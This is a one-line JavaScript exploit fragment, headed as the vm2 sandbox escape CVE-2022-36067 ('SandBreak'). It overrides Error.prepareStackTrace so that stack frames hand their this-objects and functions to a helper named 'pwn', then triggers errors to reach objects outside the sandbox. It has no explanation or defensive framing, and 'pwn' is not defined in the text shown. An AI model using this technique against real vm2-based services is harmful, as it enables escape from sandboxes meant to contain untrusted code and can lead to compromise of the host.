// vm2 CVE-2022-36067 (SandBreak): Error.prepareStackTrace
try { Error.prepareStackTrace = (e, frames) => { frames.forEach(f => { try { pwn(f.getThis()); pwn(f.getFunction()) } catch (x) {} }); return ''; }; } catch (e) {} try { fail() } catch (e) { String(e.stack) } try { null.x } catch (e) { String(e.stack) }
